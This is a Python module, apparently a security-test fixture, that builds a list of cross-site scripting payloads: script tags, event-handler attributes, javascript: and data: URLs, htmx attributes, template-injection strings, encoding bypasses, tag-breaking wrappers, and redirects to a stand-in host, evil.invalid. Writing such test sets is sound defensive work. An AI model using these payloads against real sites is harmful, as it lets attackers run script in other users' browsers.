"""What somebody writes into a field so that the browser of whoever reads it does what they want. Each leaves a mark (`pwned`)
where it is taken for markup: an element, an attribute, a dialog, a word on the window."""

import itertools
from collections.abc import Iterator

RUN = "window.pwned=1"
SHELLS = ["{0}", "\"'>{0}", "</p></div></li></td>{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "-->{0}", "]]>{0}", "{% endblock %}{0}",
          "'};{0}//", "\\\"{0}", "&quot;>{0}", "</option></select>{0}", "</template>{0}", "</noscript>{0}"]  # fmt: skip
SEEDS = [
    "<script>alert(1)</script>",
    f"<script>{RUN}</script>",
    "<i data-pwned>",
    "<img src=x onerror=alert(1) data-pwned>",
    f"<svg onload={RUN} data-pwned>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>' data-pwned></iframe>",
    "<a href=javascript:alert(1) data-pwned>x</a>",
    "<form action=javascript:alert(1) data-pwned><button>x",
    "<input autofocus onfocus=alert(1) data-pwned>",
    "<details open ontoggle=alert(1) data-pwned>",
    "<style>*{color:red}</style><b data-pwned>",
    "<link rel=stylesheet href=//evil.invalid data-pwned>",
    "<base href=//evil.invalid/ data-pwned>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid' data-pwned>",
    "<object data=x data-pwned></object>",
    "<div hx-get=/desk/ hx-trigger=load data-pwned>",
    "<div hx-on:load=alert(1) data-pwned>",
    "<template data-pwned><script>alert(1)</script></template>",
    "<math><mtext data-pwned><img src=x onerror=alert(1)>",
]
BARE = ['" onfocus=alert(1) autofocus data-pwned="', "' onmouseover=alert(1) data-pwned='", "` onclick=alert(1) data-pwned=`",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{ 7|add:7 }}{% debug %}", "${alert(1)}", "{{constructor}}",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1) data-pwned&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e", "<<i data-pwned>>", "<I DATA-PWNED>",
        "<i/data-pwned>", "<i\ndata-pwned\n>", "<sCr\u0130pt>alert(1)</sCr\u0130pt>", "<!--><i data-pwned>", "<?php <i data-pwned>"]  # fmt: skip


def payloads(many: int) -> list[str]:
    """So many different ones, the plainest first."""
    every: Iterator[str] = itertools.chain(
        SEEDS, BARE, (shell.replace("{0}", seed) for shell in SHELLS[1:] for seed in SEEDS)
    )
    return list(itertools.islice(dict.fromkeys(every), many))
